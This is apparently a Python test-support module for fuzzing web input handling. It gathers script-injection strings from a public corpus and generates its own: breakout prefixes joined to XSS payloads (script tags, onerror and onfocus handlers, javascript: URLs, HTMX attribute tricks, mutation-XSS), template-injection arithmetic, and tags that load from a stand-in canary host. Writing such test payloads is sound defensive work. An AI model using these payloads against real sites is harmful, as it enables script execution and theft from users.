"""Texts that try to run a script: a public corpus, and our own for what has become possible since.

The corpus is "Big List of Naughty Strings" (MIT), installed by npm as a dependency of the tests and never kept here. It is
of 2015; what browsers, HTMX and templates can be tricked with since then is made below, by putting ways to run
something behind ways to get out of where a text stands.
"""

import json
import re
from itertools import product
from pathlib import Path

CORPUS = Path(__file__).parents[2] / "node_modules" / "big-list-of-naughty-strings" / "blns.json"
TRIES = re.compile(r"<|&lt|&#|＜|script:|alert|prompt|confirm|on\w+\s*=|expression", re.IGNORECASE)
ESCAPE = re.compile(r"\\x([0-9A-Fa-f]{2})")
CANARY = "canary.invalid"
"""A host that nobody has; whoever asks it anything was told to by a payload."""
SUM, SUM_SAID = "{{ 7001 * 7001 }}${7001*7001}#{7001*7001}<%= 7001*7001 %>", "49014001"
"""Arithmetic for whoever builds templates, formats or queries from people's words; and what would come out."""

OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->", "]]>", "</bdi></p>")
"""Ways out of where a text stands."""
RUN = (
    "<script>alert(1)</script>",
    f"<script src=//{CANARY}/a.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{CANARY}/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:parent.alert(1)></object>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    f"<link rel=stylesheet href=//{CANARY}/a.css>",
    f"<style>@import '//{CANARY}/b.css';</style>",
    f"<base href=//{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/'>",
    f"<form action=//{CANARY}/ id=f></form><button form=f autofocus>x</button>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b hx-on::load=alert(1) hx-get=/healthz hx-trigger=load>x</b>",
    "<b hx-get=/healthz hx-trigger='load[alert(1)]'>x</b>",
    "<b data-hx-on:click=alert(1) hx-vals='js:{a:alert(1)}' hx-get=/healthz hx-trigger=load>x</b>",
    "<a href=javascript:alert(1) id=x>x</a><a href=data:text/html,<script>alert(1)</script>>x</a>",
)
INSIDE = (
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "';alert(1);'",
    '";alert(1);"',
    "\\';alert(1);//",
)
"""Ways to run something without leaving a value."""


def corpus() -> list[str]:
    """The texts of the public corpus that try to run something; an error when it is not installed.

    Many are written with escapes like ``\\x20``: as they are, and with the sign that is meant.
    """
    texts = [text for text in json.loads(CORPUS.read_text()) if TRIES.search(text)]
    meant = [ESCAPE.sub(lambda found: chr(int(found[1], 16)), text) for text in texts]
    return list(dict.fromkeys([*texts, *meant]))


def ours() -> list[str]:
    """Every way to run something, behind every way out; and the sum."""
    return [out + run for out, run in product(OUT, RUN)] + [*INSIDE, SUM]


def every() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys([*corpus(), *ours()]))


def packed(texts: list[str], most: int) -> list[str]:
    """The texts put together into as few as possible of at most ``most`` signs; longer ones are left out."""
    packs = [""]
    for text in texts:
        if len(text) > most:
            continue
        if packs[-1] and len(packs[-1]) + len(text) + 1 > most:
            packs.append("")
        packs[-1] += (" " if packs[-1] else "") + text
    return packs
